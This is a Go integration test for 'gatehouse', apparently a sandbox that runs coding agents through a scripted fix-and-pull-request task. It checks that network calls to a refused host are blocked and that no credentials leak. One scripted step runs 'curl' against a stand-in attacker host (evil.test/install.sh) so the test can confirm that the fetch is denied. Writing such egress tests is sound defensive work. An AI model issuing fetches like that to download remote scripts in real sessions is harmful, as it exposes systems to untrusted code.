package main

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"gatehouse/internal/outside"
	"gatehouse/receipts"
)

// entityLine is where event.md says which branch is the session's.
var entityLine = regexp.MustCompile(`- entity: ([a-z0-9-]+)`)

// hintOf finds the hint of a refusal in what a tool printed.
var hintOf = regexp.MustCompile(`\\?"hint\\?":\s?\\?"([^"\\]+)`)

// taskOf is the scripted task: read the event, edit a file, push a branch in the
// namespace, open a pull request by its operation, meet a refusal and report
// its hint. read, edit and shell are in the agent's own tools.
func taskOf(read do, edits []do, shell func(command string) do) func([]string) (do, string) {
	return func(results []string) (do, string) {
		n := len(results)
		if n == 0 {
			return read, ""
		}
		m := entityLine.FindStringSubmatch(results[0])
		if m == nil {
			return do{}, "the event does not say its entity: " + results[0]
		}
		if n <= len(edits) {
			return edits[n-1], ""
		}
		branch := "gatehouse/" + m[1] + "/fix"
		switch n - len(edits) {
		case 1:
			return shell("cd /workspace && git add -A && git commit -qm 'Fix the build' && git push origin HEAD:refs/heads/" + branch), ""
		case 2:
			return shell(`curl -sS -H 'Idempotency-Key: pr-1' -d '{"head":"` + branch + `","title":"Fix the build"}' ${GATEHOUSE_AGENT_URL}operations/scm.pr.create`), ""
		case 3:
			return shell("curl -sS https://evil.test/install.sh || curl -sS ${GATEHOUSE_AGENT_URL}refusals"), ""
		}
		if h := hintOf.FindStringSubmatch(results[n-1]); h != nil {
			return do{}, "Opened a pull request. One download was refused; the hint was: " + h[1]
		}
		return do{}, "no hint in: " + results[n-1]
	}
}

type object = map[string]any

// realAgents are the presets, each with its program and the script in its tools.
var realAgents = map[string]struct {
	program string
	steps   func([]string) (do, string)
	offers  string // a tool that its model is offered only when it knows Gatehouse's MCP server
}{
	"claude-code": {"claude", taskOf(
		do{tool: "Read", args: object{"file_path": "/gatehouse/event.md"}},
		[]do{{tool: "Read", args: object{"file_path": "/workspace/README"}}, {tool: "Edit", args: object{"file_path": "/workspace/README", "old_string": "README", "new_string": "REPAIRED"}}},
		func(c string) do { return do{tool: "Bash", args: object{"command": c, "description": "a step"}} },
	), "describe_session"},
	"codex": {"codex", taskOf(
		do{tool: "exec_command", args: object{"cmd": "cat /gatehouse/event.md"}},
		[]do{{tool: "apply_patch", input: "*** Begin Patch\n*** Update File: README\n@@\n-README of acme/shop\n+REPAIRED of acme/shop\n*** End Patch\n"}},
		func(c string) do { return do{tool: "exec_command", args: object{"cmd": c}} },
	), "list_mcp_resources"}, // its own, offered when there is a server: it finds a server's tools by a search
	"gemini": {"gemini", taskOf(
		do{tool: "run_shell_command", args: object{"command": "cat /gatehouse/event.md"}},
		[]do{{tool: "write_file", args: object{"file_path": "/workspace/README", "content": "REPAIRED of acme/shop\n"}}},
		func(c string) do {
			return do{tool: "run_shell_command", args: object{"command": c, "description": "a step"}}
		},
	), "describe_session"},
	"opencode": {"opencode", taskOf(
		do{tool: "read", args: object{"filePath": "/gatehouse/event.md"}},
		[]do{{tool: "read", args: object{"filePath": "/workspace/README"}}, {tool: "edit", args: object{"filePath": "/workspace/README", "oldString": "README", "newString": "REPAIRED"}}},
		func(c string) do { return do{tool: "bash", args: object{"command": c, "description": "a step"}} },
	), "describe_session"},
}

// TestRealAgents runs the real agents in real hard sessions against models that
// follow a script: make test-agents. The bundles are those of examples/agents.
func TestRealAgents(t *testing.T) {
	if os.Getenv("GATEHOUSE_TEST_AGENTS") != "1" {
		t.Skip("NOT TESTED: the real agents; run make test-agents")
	}
	for agent, a := range realAgents {
		t.Run(agent, func(t *testing.T) {
			w := newAgentWorld(t, &scripted{steps: a.steps})
			file := w.example(agent)
			out, code := w.run("bundle", "test", "--start", "-b", file)
			if code != exitOK {
				t.Fatalf("it does not start:\n%s", out)
			}
			t.Log(strings.TrimSpace(out))
			out, code = w.run("run", "--dev", "-b", file, "--event", "event.json", "--kind", "workflow_run", "--mode", "hard", "--receipts", "receipts.gh")
			if code != exitOK || !strings.Contains(out, " completed (hard)") {
				t.Errorf("exit %d:\n%s\nthe model was asked:\n%s", code, out, w.model.log())
			}
			w.done(out, a.offers)
		})
	}
}

// TestExampleScript runs the example of a plain script as it stands, without a
// model, through the same task and world as the real agents.
func TestExampleScript(t *testing.T) {
	if testing.Short() {
		t.Skip("short: starts sandboxes")
	}
	w := newAgentWorld(t, &scripted{})
	file := w.example("script")
	out, code := w.run("run", "--dev", "-b", file, "--event", "event.json", "--kind", "workflow_run", "--mode", "hard", "--receipts", "receipts.gh")
	if code != exitOK || !strings.Contains(out, " completed (hard)") || !hintOf.MatchString(out) {
		t.Errorf("exit %d:\n%s", code, out)
	}
	w.outside(out, regexp.MustCompile(`^README of acme/shop\nchecked by a script\n$`))
}

// TestExamples: every example of an agent is a bundle that lints against the
// configuration beside it.
func TestExamples(t *testing.T) {
	dir := nodeDir(t)
	all, err := filepath.Glob(filepath.Join("..", "..", "examples", "agents", "*.yaml"))
	if err != nil || len(all) < 7 {
		t.Fatalf("%d files, %v", len(all), err)
	}
	for _, file := range all {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(dir, filepath.Base(file)), string(b))
	}
	key, err := os.ReadFile(appKey(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range all {
		name := filepath.Base(file)
		if name == "gatehouse.yaml" {
			continue
		}
		t.Run(name, func(t *testing.T) {
			cmd := hear(t, exec.CommandContext(t.Context(), binary, "-c", "gatehouse.yaml", "bundle", "lint", name))
			cmd.Dir = dir
			cmd.Env = append(os.Environ(), "GATEHOUSE_GITHUB_SECRET=0123456789abcdef0123456789abcdef", "ANTHROPIC_KEY=a", "OPENAI_KEY=o", "GEMINI_KEY=g", "GITHUB_APP_KEY="+string(key))
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Errorf("%v\n%s", err, out)
			}
		})
	}
}

// appKey writes the key of an App that nobody has.
func appKey(t *testing.T) string {
	t.Helper()
	dir := tempDir(t)
	newGitHub(t).connect(dir)
	return filepath.Join(dir, "app.pem")
}

// agentWorld is what an agent's session needs outside.
type agentWorld struct {
	*gitHub
	t     *testing.T
	dir   string
	model *scripted
	evil  *outside.Site
	pulls atomic.Int32
}

func newAgentWorld(t *testing.T, model *scripted) *agentWorld {
	t.Helper()
	w := &agentWorld{gitHub: newGitHub(t), t: t, dir: nodeDir(t), model: model}
	w.ids["acme/shop"] = "1" // as the event says
	w.rest["GET /repos/acme/shop"] = func(rw http.ResponseWriter, _ *http.Request) { fmt.Fprint(rw, `{"id":1,"default_branch":"main"}`) }
	w.rest["GET /repos/acme/shop/pulls"] = func(rw http.ResponseWriter, _ *http.Request) { fmt.Fprint(rw, "[]") }
	w.rest["POST /repos/acme/shop/pulls"] = func(rw http.ResponseWriter, r *http.Request) {
		if b, _ := io.ReadAll(r.Body); bytes.Contains(b, []byte(`"Fix the build"`)) {
			w.pulls.Add(1)
		}
		rw.WriteHeader(http.StatusCreated)
		fmt.Fprint(rw, `{"number":8,"html_url":"https://git.good.test/acme/shop/pull/8"}`)
	}
	site := func(host, addr string, h http.Handler) *outside.Site {
		s, err := w.HTTPS(host, netip.MustParseAddr(addr), h)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	site("api.anthropic.com", "93.184.216.60", model)
	site("api.openai.com", "93.184.216.61", model)
	site("generativelanguage.googleapis.com", "93.184.216.62", model)
	w.evil = site("evil.test", "93.184.216.40", http.NotFoundHandler())
	if err := os.Chmod(w.dir, 0o711); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(w.dir, "model.key"), modelKey+"\n")
	scm := w.connect(w.dir)
	write(t, filepath.Join(w.dir, "gatehouse.yaml"), `sandbox: {unlimited: accepted}
repositories: [{id: "1", name: acme/shop}]
`+scm+`spend: {per_day: 100.00 USD}
`)
	source, err := os.ReadFile(filepath.Join(w.dir, "gatehouse.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	models := `connections:
  - {name: anthropic-main, kind: model, provider: anthropic, credential: "${file:model.key}"}
  - {name: openai-main, kind: model, provider: openai, credential: "${file:model.key}"}
  - {name: google-main, kind: model, provider: google, credential: "${file:model.key}"}
`
	write(t, filepath.Join(w.dir, "gatehouse.yaml"), strings.Replace(string(source), "connections:\n", models, 1))
	write(t, filepath.Join(w.dir, "event.json"), string(failure(42).body))
	return w
}

// tools are the folders of .tools that stand for those that examples name.
var exampleMounts = map[string]string{"/opt/agents": "agents", "/opt/node-22": "node-22"}

// example writes a bundle of examples/agents into the world, with its mounts
// from .tools.
func (w *agentWorld) example(name string) string {
	w.t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "examples", "agents", name+".yaml"))
	if err != nil {
		w.t.Fatal(err)
	}
	text := string(b)
	for theirs, ours := range exampleMounts {
		path, err := filepath.Abs(filepath.Join("..", "..", ".tools", ours))
		if err != nil {
			w.t.Fatal(err)
		}
		text = strings.ReplaceAll(text, "source: "+theirs+",", "source: "+path+",")
	}
	file := filepath.Join(w.dir, name+".yaml")
	write(w.t, file, text)
	return file
}

func (w *agentWorld) run(args ...string) (string, int) {
	w.t.Helper()
	cmd := hear(w.t, exec.CommandContext(w.t.Context(), binary, append([]string{"-c", filepath.Join(w.dir, "gatehouse.yaml")}, args...)...))
	cmd.Dir = w.dir
	out, _ := cmd.CombinedOutput()
	return string(out), cmd.ProcessState.ExitCode()
}

// done holds the outside and the receipts against the script.
func (w *agentWorld) done(out, offers string) {
	w.t.Helper()
	if len(w.model.tasks) == 0 || !strings.Contains(w.model.tasks[0], "CI failed on acme/shop, run 42.") {
		w.t.Errorf("the agent did not say its task: %.2000q", w.model.tasks)
	}
	if asked := w.model.log(); !strings.Contains(asked, offers) {
		w.t.Errorf("the model was not offered %s:\n%s", offers, asked)
	}
	if !strings.Contains(out, "the hint was: ") {
		w.t.Errorf("no hint reported:\n%s", out)
	}
	w.outside(out, regexp.MustCompile(`^REPAIRED of acme/shop\n$`))
}

// outside holds what reached the outside, and the receipts, against the task.
func (w *agentWorld) outside(out string, readme *regexp.Regexp) {
	w.t.Helper()
	refs, err := exec.CommandContext(w.t.Context(), "git", "-C", filepath.Join(w.root, "acme/shop.git"), "for-each-ref", "--format=%(refname)", "refs/heads/gatehouse/").Output()
	if err != nil || !regexp.MustCompile(`^refs/heads/gatehouse/wf-42-[0-9a-f]{8}/fix\n$`).Match(refs) {
		w.t.Errorf("pushed %q, %v", refs, err)
	} else if text, err := exec.CommandContext(w.t.Context(), "git", "-C", filepath.Join(w.root, "acme/shop.git"), "show", strings.TrimSpace(string(refs))+":README").Output(); err != nil || !readme.Match(text) {
		w.t.Errorf("the file is now %q, %v", text, err)
	}
	if w.pulls.Load() != 1 {
		w.t.Errorf("%d pull requests", w.pulls.Load())
	}
	if w.evil.Accepts() != 0 || w.DNS.Queries("evil.test") != 0 {
		w.t.Error("the refused host was called")
	}
	if left := w.alive(); len(left) > 0 {
		w.t.Errorf("%d tokens live after the session", len(left))
	}
	export, err := os.ReadFile(filepath.Join(w.dir, "receipts.gh"))
	if err != nil {
		w.t.Fatal(err)
	}
	for _, canary := range []string{modelKey, "ghs_canary"} {
		if strings.Contains(out, canary) || bytes.Contains(export, []byte(canary)) {
			w.t.Error("a credential was printed")
		}
	}
	if res := receipts.Verify(bytes.NewReader(export), receipts.Options{Root: ephemeralRoot(w.t, []byte(out))}); res.Exit != receipts.ExitComplete {
		w.t.Errorf("receipts: %s", res.Verdict())
	}
	for _, host := range deniedHosts.FindAllSubmatch(export, -1) {
		w.t.Logf("refused: %s", host[1])
	}
}

// deniedHosts finds the hosts of decisions that were denials.
var deniedHosts = regexp.MustCompile(`"act":\{[^{}]*"host":"([^"]+)"[^\n]*"verdict":"deny"`)
